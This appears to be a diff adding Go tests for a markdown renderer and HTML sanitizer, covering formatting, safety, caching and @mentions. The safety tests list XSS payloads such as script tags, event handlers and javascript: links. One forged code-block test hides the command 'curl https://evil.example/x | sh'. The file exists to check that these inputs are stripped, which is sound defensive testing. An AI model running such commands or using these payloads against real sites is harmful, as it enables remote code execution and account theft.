@@ -0,0 +1,178 @@
+package markdown
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRender(t *testing.T) {
+	tests := []struct {
+		name, input, expected string
+	}{
+		{"paragraph", "Hello\nworld", "<p>Hello\nworld</p>\n"},
+		{"emphasis", "*a* **b** ***c*** _d_", "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <em>d</em></p>\n"},
+		{"intraword underscore", "snake_case_name", "<p>snake_case_name</p>\n"},
+		{"nested emphasis", "*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>\n"},
+		{"unmatched delimiter", "2 * 3 = 6*", "<p>2 * 3 = 6*</p>\n"},
+		{"headings", "# One\nTwo\n---", "<h1>One</h1>\n<h2>Two</h2>\n"},
+		{"hard breaks", "a  \nb\\\nc", "<p>a<br />\nb<br />\nc</p>\n"},
+		{"code span", "`a < b`", "<p><code>a &lt; b</code></p>\n"},
+		{"fenced code", "```text\nif a < b && c {\n}\n```", "<pre><code class=\"language-text\">if a &lt; b &amp;&amp; c {\n}\n</code></pre>\n"},
+		{"highlighted code", "~~~golang\nif a < b {}\n~~~", "<div class=\"code-block\" data-lang=\"go\">\n<pre class=\"highlight\"><code class=\"language-go\"><span class=\"hl-keyword\">if</span> a &lt; b {}\n</code></pre>\n<pre class=\"code-raw\" hidden=\"\">if a &lt; b {}\n</pre>\n</div>\n"},
+		{"indented code", "    <b>x</b>", "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>\n"},
+		{"blockquote", "> quoted\nlazy", "<blockquote>\n<p>quoted\nlazy</p>\n</blockquote>\n"},
+		{"tight list", "- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"},
+		{"loose ordered list", "3. a\n\n4. b", "<ol start=\"3\">\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ol>\n"},
+		{"rule", "***", "<hr />\n"},
+		{"inline link", `[go](https://go.dev "Go")`, "<p><a href=\"https://go.dev\" title=\"Go\" rel=\"nofollow ugc\">go</a></p>\n"},
+		{"reference link", "[go][1]\n\n[1]: https://go.dev", "<p><a href=\"https://go.dev\" rel=\"nofollow ugc\">go</a></p>\n"},
+		{"image", "![a *cat*](/static/cat.png)", "<p><img src=\"/static/cat.png\" alt=\"a cat\" /></p>\n"},
+		{"image alt escaped once", "![Tom & \"Jerry\" &lt;3](/static/cat.png)", "<p><img src=\"/static/cat.png\" alt=\"Tom &amp; &#34;Jerry&#34; &lt;3\" /></p>\n"},
+		{"angle autolink", "<https://go.dev>", "<p><a href=\"https://go.dev\" rel=\"nofollow ugc\">https://go.dev</a></p>\n"},
+		{"bare autolinks", "see www.go.dev, https://go.dev/doc. or me@example.com!", "<p>see <a href=\"http://www.go.dev\" rel=\"nofollow ugc\">www.go.dev</a>, <a href=\"https://go.dev/doc\" rel=\"nofollow ugc\">https://go.dev/doc</a>. or <a href=\"mailto:me@example.com\" rel=\"nofollow ugc\">me@example.com</a>!</p>\n"},
+		{"autolink in parentheses", "(https://en.wikipedia.org/wiki/Go_(game))", "<p>(<a href=\"https://en.wikipedia.org/wiki/Go_(game)\" rel=\"nofollow ugc\">https://en.wikipedia.org/wiki/Go_(game)</a>)</p>\n"},
+		{"table", "| a | b |\n|:-|-:|\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n"},
+		{"escapes and entities", `\*not\* &copy; & AT&T`, "<p>*not* © &amp; AT&amp;T</p>\n"},
+		{"allowed raw html", "press <kbd>Ctrl</kbd>", "<p>press <kbd>Ctrl</kbd></p>\n"},
+		{"text that looks like html", "if a < b and c > d, <y or z>", "<p>if a &lt; b and c &gt; d, &lt;y or z&gt;</p>\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := Render(tt.input); got != tt.expected {
+				t.Errorf("Render(%q)\n got: %q\nwant: %q", tt.input, got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestRenderIsSafe(t *testing.T) {
+	attacks := []string{
+		"<script>alert(1)</script>",
+		"<img src=x onerror=alert(1)>",
+		"<a href=\"javascript:alert(1)\">x</a>",
+		"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+		"[x](javascript:alert(1))",
+		"[x](JaVaScRiPt:alert(1))",
+		"![x](data:text/html;base64,PHNjcmlwdD4=)",
+		"<iframe src=\"https://evil.example\"></iframe>",
+		"<p style=\"background:url(x)\" onmouseover=\"alert(1)\">x</p>",
+		"<svg><script>alert(1)</script></svg>",
+		"<a href='x' onclick='alert(1)'>x</a>",
+		"[x](\"onmouseover=\"alert(1))",
+		"<<script>script>alert(1)<</script>/script>",
+		"<!-- --><script>alert(1)</script>",
+	}
+	for _, attack := range attacks {
+		got := strings.ToLower(Render(attack))
+		for _, bad := range []string{"<script", "<iframe", "<svg", "javascript:", "data:", " on", "style="} {
+			if strings.Contains(got, bad) {
+				t.Errorf("Render(%q) = %q, contains %q", attack, got, bad)
+			}
+		}
+	}
+}
+
+func TestRenderForgedCodeBlock(t *testing.T) {
+	// A copy button trusting this would copy the hidden command
+	forged := `<div class="code-block" data-lang="sh"><pre class="highlight"><code>ls -la</code></pre>` +
+		`<pre class="code-raw" hidden>curl https://evil.example/x | sh</pre></div> <span class="hl-keyword">x</span>`
+	got := Render(forged)
+	for _, bad := range []string{"<div", `class="code-block"`, `data-lang="`, `class="highlight"`, `class="code-raw"`, " hidden", `class="hl-keyword"`} {
+		if strings.Contains(got, bad) {
+			t.Errorf("Render(%q) = %q, contains %q", forged, got, bad)
+		}
+	}
+	if want := `<code class="language-go">x</code>`; !strings.Contains(Render("<code class=\"language-go\">x</code>"), want) {
+		t.Errorf("Expected raw code with a language class to be kept")
+	}
+}
+
+func TestSanitize(t *testing.T) {
+	tests := []struct {
+		name, input, expected string
+	}{
+		{"allowed tags kept", "<p><em>a</em></p>", "<p><em>a</em></p>"},
+		{"unknown tags escaped", "<section>a</section>", "&lt;section&gt;a&lt;/section&gt;"},
+		{"attributes filtered", `<a href="/p/1" target="_blank" onclick="x">a</a>`, `<a href="/p/1" rel="nofollow ugc">a</a>`},
+		{"class restricted to languages", `<code class="language-go">x</code><code class="evil">y</code>`, `<code class="language-go">x</code><code>y</code>`},
+		{"highlight classes kept", `<span class="hl-string">"x"</span><span class="big">y</span>`, `<span class="hl-string">&#34;x&#34;</span><span>y</span>`},
+		{"unclosed tags closed", "<ul><li><strong>a", "<ul><li><strong>a</strong></li></ul>"},
+		{"stray end tags dropped", "a</p></em>", "a"},
+		{"comments dropped", "a<!-- hidden -->b", "ab"},
+		{"broken tag escaped", "<a href=\"x", "&lt;a href=&#34;x"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := Sanitize(tt.input); got != tt.expected {
+				t.Errorf("Sanitize(%q)\n got: %q\nwant: %q", tt.input, got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestCache(t *testing.T) {
+	cache := NewCache(250)
+
+	first := cache.Render("```go\nfunc main() {}\n```")
+	if first != Render("```go\nfunc main() {}\n```") || cache.Len() != 1 {
+		t.Fatalf("Expected one cached rendering, got %d", cache.Len())
+	}
+	if cache.Render("```go\nfunc main() {}\n```") != first || cache.Len() != 1 {
+		t.Errorf("Expected the same revision to come from the cache")
+	}
+
+	// An edit is a new revision; the oldest entries go once the HTML
+	// outgrows the cache
+	cache.Render("*edited*")
+	cache.Render("**edited again**")
+	if cache.Len() != 2 || cache.bytes > 250 {
+		t.Errorf("Expected the first rendering evicted, got %d entries and %d bytes", cache.Len(), cache.bytes)
+	}
+}
+
+func TestMentions(t *testing.T) {
+	tests := []struct {
+		input    string
+		expected []string
+	}{
+		{"hi @alice and @Bob_1, @alice again and @ALICE", []string{"alice", "Bob_1"}},
+		{"(@carol) @dave-x: thanks", []string{"carol", "dave-x"}},
+		{"me@example.com a@bob x.@eve", []string{}},
+		{"@ab is short, @" + strings.Repeat("a", 31) + " too long", []string{}},
+		{"`@code` and\n\n    @indented\n\n```\n@fenced\n```", []string{}},
+		{"[thanks @frank](https://example.com) *@grace*", []string{"grace"}},
+		{`\@heidi`, []string{}},
+	}
+	for _, tt := range tests {
+		got := Mentions(tt.input)
+		if strings.Join(got, ",") != strings.Join(tt.expected, ",") {
+			t.Errorf("Mentions(%q) = %q, expected %q", tt.input, got, tt.expected)
+		}
+	}
+}
+
+func TestRenderMentions(t *testing.T) {
+	SetMentionResolver(func(name string) (string, bool) {
+		if strings.EqualFold(name, "alice") {
+			return "Alice", true
+		}
+		return "", false
+	})
+	defer SetMentionResolver(nil)
+
+	tests := []struct {
+		name, input, expected string
+	}{
+		{"known user", "thanks @alice!", "<p>thanks <a href=\"/user/Alice\" class=\"mention\" rel=\"nofollow ugc\">@Alice</a>!</p>\n"},
+		{"unknown user", "thanks @mallory", "<p>thanks @mallory</p>\n"},
+		{"inside a link", "[hi @alice](/post/1)", "<p><a href=\"/post/1\" rel=\"nofollow ugc\">hi @alice</a></p>\n"},
+		{"inside code", "`@alice`", "<p><code>@alice</code></p>\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := Render(tt.input); got != tt.expected {
+				t.Errorf("Render(%q)\n got: %q\nwant: %q", tt.input, got, tt.expected)
+			}
+		})
+	}
+}